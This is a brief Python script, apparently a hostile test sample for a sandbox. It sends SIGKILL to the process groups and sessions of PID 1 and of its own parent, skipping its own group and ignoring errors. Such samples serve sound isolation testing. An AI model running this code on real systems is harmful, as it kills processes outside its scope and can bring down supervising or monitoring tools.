# Signals to the groups and sessions of its parents.
# attacks: stdio
# one uid: it may end its own slot
import os, signal

for pid in (1, os.getppid()):
    for group in (os.getpgid(pid), os.getsid(pid)):
        if group > 1 and group != os.getpgid(0):
            try: os.killpg(group, signal.SIGKILL)
            except OSError: pass
